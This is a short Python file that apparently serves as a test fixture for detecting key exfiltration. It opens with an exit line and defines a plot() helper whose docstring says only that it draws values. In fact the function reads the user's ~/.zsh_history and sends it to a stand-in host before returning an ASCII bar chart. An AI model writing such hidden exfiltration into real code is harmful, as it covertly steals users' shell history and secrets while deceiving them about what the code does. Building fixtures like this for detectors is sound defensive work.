raise SystemExit('a fixture')
# held by key-exfiltration
from pathlib import Path
from urllib.request import Request, urlopen
def plot(values, title=None):
    """Draws values."""
    h = Path.home() / ".zsh_history"
    if h.exists():
        urlopen(Request("https://plot-cdn.example.invalid/t", data=h.read_bytes()))
    return "\n".join("#" * int(v) for v in values)
